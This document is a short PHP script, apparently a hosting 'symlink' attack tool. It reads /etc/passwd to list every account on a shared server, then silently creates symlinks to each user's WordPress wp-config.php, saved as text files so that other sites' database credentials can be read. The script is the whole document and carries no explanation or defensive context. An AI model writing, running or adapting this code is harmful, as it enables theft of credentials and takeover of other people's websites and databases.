<?php
$users = file("/etc/passwd");
foreach ($users as $u) {
    $name = explode(":", $u);
    @symlink("/home/" . $name[0] . "/public_html/wp-config.php", "sym/" . $name[0] . ".txt");
}
